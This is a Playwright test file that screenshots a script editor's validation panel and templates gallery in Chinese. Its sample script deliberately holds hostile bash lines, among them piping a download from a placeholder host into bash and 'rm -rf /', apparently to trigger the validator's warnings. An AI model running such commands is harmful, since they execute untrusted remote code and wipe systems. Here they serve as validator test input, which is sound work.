import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { baseUrl, launchBrowser, signIn } from '../support/browser';

/**
 * The Chinese Problems panel and templates gallery. With SCREENSHOT_SUFFIX (before on the old build,
 * after on the new) they are saved under docs/screenshots for the release note; otherwise in a
 * temporary folder, so `npm test` leaves the repository as it was. The assertions only check that
 * the pages rendered what is photographed.
 */
const shotDir = process.env.SCREENSHOT_SUFFIX
  ? path.join(import.meta.dirname, '..', '..', 'docs', 'screenshots')
  : mkdtempSync(path.join(os.tmpdir(), 'vss-shots-'));
const suffix = process.env.SCREENSHOT_SUFFIX ?? 'after';

const eventually = <T>(fn: () => T | Promise<T>) => expect.poll(fn, { timeout: 30_000, interval: 100 });

export const PROBLEM_SCRIPT = [
  'curl -s http://example.invalid/x.sh | bash',
  'rm -rf /',
  'crontab -r',
  'if true; then',
  '  echo done',
  '',
].join('\n');

async function replaceEditorText(page: Page, text: string): Promise<void> {
  await page.getByTestId('code-editor').locator('.view-lines').click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText(text);
}

describe('Chinese screenshots', () => {
  let browser: Browser;
  let page: Page;
  beforeAll(async () => {
    mkdirSync(shotDir, { recursive: true });
    browser = await launchBrowser();
    const context = await browser.newContext({ locale: 'zh-CN', viewport: { width: 1440, height: 1000 } });
    await context.addCookies([{ name: 'vss-locale', value: 'zh', url: baseUrl() }]);
    page = await context.newPage();
    await signIn(page);
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('photographs the Problems panel', async () => {
    await page.goto(`${baseUrl()}/scripts/new`);
    await page.getByTestId('script-language').selectOption('bash');
    await page.getByTestId('code-editor').locator('.monaco-editor').waitFor({ timeout: 30_000 });
    await replaceEditorText(page, PROBLEM_SCRIPT);
    await eventually(() => page.getByTestId('validation-item').count()).toBe(4);
    // The panel scrolls after three rows; the photo shows all four (the syntax error is the last).
    await page.getByTestId('validation-list').evaluate((el) => el.classList.remove('max-h-44'));
    await page.getByTestId('validation-list').screenshot({ path: path.join(shotDir, `problems-zh-${suffix}.png`) });
  });

  it('photographs the templates gallery', async () => {
    await page.goto(`${baseUrl()}/templates`);
    await page.getByTestId('templates-gallery').waitFor();
    await eventually(() => page.getByTestId('template-card').count()).toBeGreaterThanOrEqual(9);
    await page.screenshot({ path: path.join(shotDir, `templates-zh-${suffix}.png`), fullPage: true });
  });
});
